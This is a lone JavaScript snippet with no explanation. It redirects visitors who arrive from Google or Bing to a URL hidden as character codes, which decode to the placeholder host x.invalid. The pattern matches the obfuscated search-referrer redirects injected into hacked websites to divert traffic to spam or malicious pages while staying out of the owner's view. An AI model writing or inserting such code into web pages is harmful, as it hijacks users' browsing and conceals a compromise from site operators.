if (/google|bing/i.test(document.referrer)) { window.location = String.fromCharCode(104,116,116,112,58,47,47,120,46,105,110,118,97,108,105,100); }
